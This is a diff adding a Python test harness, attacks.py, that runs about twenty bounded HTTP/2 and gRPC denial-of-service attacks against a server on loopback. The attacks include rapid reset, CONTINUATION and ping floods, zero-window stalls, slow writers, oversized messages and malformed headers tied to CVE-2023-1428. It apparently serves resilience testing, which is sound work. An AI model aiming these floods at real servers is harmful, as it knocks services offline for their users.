@@ -1,0 +1,436 @@
+"""What a hostile client of a gRPC server can do, each bounded in time and count, against loopback alone.
+
+usage: attacks.py --port PORT --attack NAME [--seconds S] [--scale F] [--pool NAME]
+Prints "begun", and at the end, or when it is told to stop by SIGTERM, what it did as a line of JSON.
+`--list` prints the names.
+"""
+import argparse
+import json
+import os
+import random
+import resource
+import signal
+import struct
+import sys
+import time
+
+import http2
+import messages
+from crowd import Attack, Flood
+from foreign import ForeignFeedback
+from http2 import CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame
+
+QUERY = "what is the way from here to the station, and when does the last train leave? "
+SECONDS_MAX = 120
+
+
+class HalfOpen(Attack):
+    name = "half-open"
+    what = "2,000 connections that send nothing"
+    connections = 2000
+
+    def arrive(self, connection):
+        pass
+
+    def hear(self, connection, frames):
+        pass
+
+
+class HalfPreface(HalfOpen):
+    name = "half-preface"
+    what = "2,000 connections that send half a preface"
+
+    def arrive(self, connection):
+        connection.send(http2.PREFACE[:12])
+
+
+class NoSettings(Attack):
+    name = "no-settings-ack"
+    what = "500 connections that never acknowledge SETTINGS, with a call begun"
+    connections = 500
+
+    def arrive(self, connection):
+        connection.hello()
+        connection.send(http2.header_frames(connection.stream(), http2.call_headers(messages.ROUTE)))
+
+    def hear(self, connection, frames):
+        pass
+
+
+class ZeroWindow(Attack):
+    """Every answer waits in the server, which may send none of its bytes. The asking is paced, so that what is
+    measured is the waiting and not 25,600 decisions at once."""
+    name = "zero-window"
+    what = "large answers asked for, with a window of 0 bytes"
+    connections = 20
+    window = 0
+
+    def begin(self):
+        query = (QUERY * 4)[:300]
+        self.body = http2.grpc_message(messages.route_batch(self.pool, query, 64))
+        self.headers = http2.call_headers(messages.ROUTE_BATCH)
+        self.asked = 0
+        self.next_at = time.monotonic()
+
+    def arrive(self, connection):
+        connection.hello(initial_window_size=self.window)
+
+    def tick(self):
+        if time.monotonic() < self.next_at or self.asked >= self.some(1000):
+            return
+        self.next_at = time.monotonic() + 0.02
+        for connection in list(self.crowd.open.values())[self.asked % 4::4]:
+            if connection.next_stream > 200 or connection.backlog:
+                continue
+            stream = connection.stream()
+            connection.send(http2.header_frames(stream, self.headers))
+            for at in range(0, len(self.body), http2.FRAME_BYTES):
+                part = self.body[at:at + http2.FRAME_BYTES]
+                is_last = at + len(part) == len(self.body)
+                connection.send(frame(DATA, END_STREAM if is_last else 0, stream, part))
+            self.asked += 1
+            self.counts["batches of 64 asked for"] += 1
+            break
+
+    def hear(self, connection, frames):
+        connection.acknowledge(one for one in frames if one[0] != DATA)
+
+
+class NeverReads(ZeroWindow):
+    name = "never-reads"
+    what = "large answers asked for, with a wide window, and the socket never read"
+    window = (1 << 31) - 1
+    is_deaf = True
+
+    def connect(self):
+        return super().connect(receive_buffer=4096)
+
+
+class SlowWriter(Attack):
+    name = "slow-writer"
+    what = "1,000 bodies on 20 connections, a byte a second"
+    connections = 20
+
+    def begin(self):
+        self.next_at = 0
+
+    def arrive(self, connection):
+        connection.hello()
+        connection.bodies = []
+        for _ in range(50):
+            stream = connection.stream()
+            connection.bodies.append(stream)
+            connection.send(http2.header_frames(stream, http2.call_headers(messages.ROUTE))
+                            + frame(DATA, 0, stream, struct.pack(">BI", 0, 60000)))
+        self.counts["bodies"] += 50
+
+    def tick(self):
+        if time.monotonic() < self.next_at:
+            return
+        self.next_at = time.monotonic() + 1
+        for connection in list(self.crowd.open.values()):
+            connection.send(b"".join(frame(DATA, 0, stream, b"\x0a") for stream in connection.bodies))
+            self.counts["bytes of bodies"] += len(connection.bodies)
+
+
+class HugeMetadata(Flood):
+    """Whole header blocks, by CONTINUATION frames; many small headers and a few large ones in turn."""
+    name = "huge-metadata"
+    what = "calls with 64 KiB to 4 MiB of headers"
+    connections = 2
+
+    def begin(self):
+        self.blocks = []
+        for kib in (64, 256, 1024, 4096):
+            base = http2.call_headers(messages.ROUTE)
+            large = base + http2.literal("x-large", b"v" * (kib << 10))
+            many = base + b"".join(http2.literal(f"x-{i}", b"v" * 64) for i in range(kib << 10 >> 7))
+            self.blocks += [large, many]
+
+    def arrive(self, connection):
+        connection.hello()
+
+    def chunk(self, connection):
+        block = random.choice(self.blocks)
+        self.counts["calls"] += 1
+        self.counts["KiB of headers"] += len(block) >> 10
+        return http2.header_frames(connection.stream(), block, end_stream=True)
+
+
+class OddHeaders(Flood):
+    """gRPC before 1.53 aborts on some of these (CVE-2023-1428), if headers beyond its limit follow."""
+    name = "odd-headers"
+    what = "calls with a te, a :scheme or a path that is none, and 10 KiB of headers"
+
+    def begin(self):
+        much = http2.literal("x-much", b"v" * 10240)
+        usual = {":method": "POST", ":scheme": "http", ":path": messages.ROUTE, "te": "trailers",
+                 "content-type": "application/grpc"}
+        odd = ({"te": "x"}, {":scheme": "x"}, {"grpclb_client_stats": "x"}, {":path": "no path"}, {":method": "x"},
+               {"content-type": "x"}, {"grpc-timeout": "99999999999999999999H"}, {"grpc-encoding": "x"},
+               {"x-bin": "not base64!"}, {"": ""}, {"X-Upper": "x"})
+        self.blocks = []
+        for change in odd:
+            block = b"".join(http2.literal(name, value) for name, value in (usual | change).items())
+            self.blocks += [block, block + much]
+
+    def arrive(self, connection):
+        connection.hello()
+
+    def chunk(self, connection):
+        self.counts["calls"] += 1
+        return http2.header_frames(connection.stream(), random.choice(self.blocks), end_stream=True)
+
+    def read(self, wait):
+        super().read(max(wait, 0.002))
+
+
+class ContinuationFlood(Flood):
+    name = "continuation-flood"
+    what = "header blocks that never end"
+    connections = 4
+
+    def arrive(self, connection):
+        connection.hello()
+        connection.number = connection.stream()
+        connection.send(frame(HEADERS, 0, connection.number, http2.call_headers(messages.ROUTE)))
+        self.part = b"".join(http2.literal(f"x-{i}", b"v" * 100) for i in range(130))
+
+    def chunk(self, connection):
+        self.counts["CONTINUATION frames"] += 8
+        return frame(CONTINUATION, 0, connection.number, self.part) * 8
+
+
+class ManyStreams(Attack):
+    name = "many-streams"
+    what = "5,000 streams without an end on one connection"
+    streams = 5000
+
+    def arrive(self, connection):
+        connection.hello()
+        block = http2.call_headers(messages.ROUTE)
+        count = self.some(self.streams)
+        connection.send(b"".join(http2.header_frames(connection.stream(), block) for _ in range(count)))
+        self.counts["streams"] += count
+
+
+class ManyStreamsMany(ManyStreams):
+    name = "many-streams-many"
+    what = "500 streams without an end on each of 40 connections"
+    connections = 40
+    streams = 500
+
+
+class RapidReset(Flood):
+    name = "rapid-reset"
+    what = "HEADERS, DATA and RST_STREAM at once"
+    connections = 2
+    path = messages.ROUTE
+
+    def begin(self):
+        self.block = http2.call_headers(self.path)
+        self.body = http2.grpc_message(messages.route(self.pool, QUERY))
+        self.cancel = struct.pack(">I", CANCEL)
+
+    def arrive(self, connection):
+        connection.hello()
+
+    def chunk(self, connection):
+        if connection.window <= 0:
+            return b""
+        out = []
+        for _ in range(100):
+            stream = connection.stream()
+            out += [frame(HEADERS, END_HEADERS, stream, self.block), frame(DATA, END_STREAM, stream, self.body),
+                    frame(RST_STREAM, 0, stream, self.cancel)]
+            connection.window -= len(self.body)
+        self.counts["calls begun and reset"] += 100
+        return b"".join(out)
+
+    def hear(self, connection, frames):
+        connection.acknowledge(frames)
+
+
+class PingFlood(Flood):
+    name = "ping-flood"
+    what = "PING frames, the answers read"
+    one = frame(http2.PING, payload=b"12345678")
+    counted = "PING frames"
+
+    def arrive(self, connection):
+        connection.hello()
+
+    def chunk(self, connection):
+        self.counts[self.counted] += 1000
+        return self.one * 1000
+
+
+class PingUnread(PingFlood):
+    name = "ping-unread"
+    what = "PING frames, the answers never read"
+    is_deaf = True
+
+
+class SettingsFlood(PingFlood):
+    name = "settings-flood"
+    what = "SETTINGS frames, the answers never read"
+    one = http2.settings(initial_window_size=65535, max_frame_size=16384)
+    counted = "SETTINGS frames"
+    is_deaf = True
+
+
+class EmptyFrames(PingFlood):
+    """They cost no window, so nothing but the server's own rules slows them down."""
+    name = "empty-frames"
+    what = "DATA frames of no bytes"
+    counted = "DATA frames"
+    one = frame(DATA, 0, 1)
+
+    def arrive(self, connection):
+        connection.hello()
+        connection.send(http2.header_frames(connection.stream(), http2.call_headers(messages.ROUTE)))
+
+
+class Oversized(Flood):
+    name = "oversized"
+    what = "messages of 17 MiB, and prefixes that claim 4 GiB"
+    connections = 4
+    sizes = (17 << 20, 0xffffffff)
+    held_back = 0
+
+    def arrive(self, connection):
+        connection.hello(initial_window_size=1 << 20)
+        connection.left = 0
+        connection.kept_open = 0
+
+    def begin_body(self, connection):
+        connection.number = connection.stream()
+        size = random.choice(self.sizes)
+        connection.left = size - self.held_back
+        connection.stream_windows = {connection.number: connection.stream_window - 5}
+        connection.window -= 5
+        self.counts["messages"] += 1
+        return (http2.header_frames(connection.number, http2.call_headers(messages.ROUTE))
+                + frame(DATA, 0, connection.number, struct.pack(">BI", 0, size)))
+
+    def chunk(self, connection):
+        if connection.left <= 0:
+            return self.begin_body(connection)
+        room = min(connection.window, connection.stream_windows.get(connection.number, 0), connection.left, 65536)
+        if room <= 0:
+            return b""
+        connection.left -= room
+        connection.window -= room
+        connection.stream_windows[connection.number] -= room
+        self.counts["bytes"] += room
+        return b"".join(frame(DATA, 0, connection.number, bytes(min(http2.FRAME_BYTES, room - at)))
+                        for at in range(0, room, http2.FRAME_BYTES))
+
+    def read(self, wait):
+        super().read(max(wait, 0.001))
+
+    def hear(self, connection, frames):
+        connection.acknowledge(frames)
+        for kind, flags, stream, _ in frames:
+            if stream == getattr(connection, "number", 0) and (kind == RST_STREAM or flags & END_STREAM
+                                                               and kind in (HEADERS, DATA)):
+                self.counts["refused"] += 1
+                connection.left = 0
+
+
+class HeldBack(Oversized):
+    """The server has to keep all of a message until it is whole."""
+    name = "held-back"
+    what = "messages of 15 MiB, 4 at a time on 5 connections, without their last byte"
+    connections = 5
+    sizes = (15 << 20,)
+    held_back = 1
+    at_once = 4
+
+    def chunk(self, connection):
+        if connection.left <= 0:
+            if connection.kept_open >= self.at_once:
+                return b""
+            connection.kept_open += 1
+        return super().chunk(connection)
+
+
+class Garbage(Flood):
+    name = "garbage"
+    what = "random bytes, from the start or after a whole preface"
+    connections = 4
+
+    def arrive(self, connection):
+        if random.random() < 0.5:
+            connection.hello()
+
+    def chunk(self, connection):
+        self.counts["KiB of garbage"] += 64
+        return os.urandom(65536)
+
+
+class Churn(Attack):
+    name = "churn"
+    what = "connections that come, ask one thing and go"
+
+    def begin(self):
+        self.request = (http2.PREFACE + http2.settings() + http2.header_frames(1, http2.call_headers(messages.ROUTE))
+                        + frame(DATA, END_STREAM, 1, http2.grpc_message(messages.route(self.pool, QUERY))))
+
+    def step(self):
+        connection = http2.Connection(self.address)
+        self.counts["connections refused" if connection.is_closed else "connections"] += 1
+        connection.send(self.request)
+        if self.counts["connections"] % 2 == 0:
+            connection.pump(wait=0.005)
+        connection.reset()
+
+
+class Spin(Attack):
+    name = "spin"
+    what = "nothing to the server: a process as busy as an attack, to compare with"
+
+    def step(self):
+        self.counts["turns"] += 1
+        for _ in range(10000):
+            pass
+
+
+ATTACKS = {attack.name: attack for attack in (
+    Spin, HalfOpen, HalfPreface, NoSettings, ZeroWindow, NeverReads, SlowWriter, HugeMetadata, OddHeaders,
+    ContinuationFlood, ManyStreams, ManyStreamsMany, RapidReset, PingFlood, PingUnread, SettingsFlood, EmptyFrames,
+    Oversized, HeldBack, Garbage, ForeignFeedback, Churn)}
+
+
+def allow_files():
+    """As many file descriptors as this process may have: the usual 1,024 are too few for a crowd."""
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    return most
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--port", type=int, help="of a pointsmand on 127.0.0.1")
+    parser.add_argument("--attack", choices=ATTACKS)
+    parser.add_argument("--seconds", type=float, default=5)
+    parser.add_argument("--scale", type=float, default=1.0)
+    parser.add_argument("--pool", default="default")
+    parser.add_argument("--list", action="store_true")
+    options = parser.parse_args()
+    if options.list:
+        for attack in ATTACKS.values():
+            print(f"{attack.name:20} {attack.what}")
+        return
+    if not options.port or not options.attack:
+        parser.error("--port and --attack are needed")
+    if allow_files() < 2500:
+        sys.exit("attacks.py: needs 2,500 file descriptors, see `ulimit -Hn`")
+    attack = ATTACKS[options.attack](("127.0.0.1", options.port), options.pool, options.scale)
+    signal.signal(signal.SIGTERM, lambda *_: attack.stop())
+    print("begun", flush=True)
+    print(json.dumps(attack.run(time.monotonic() + min(options.seconds, SECONDS_MAX))), flush=True)
+
+
+if __name__ == "__main__":
+    main()
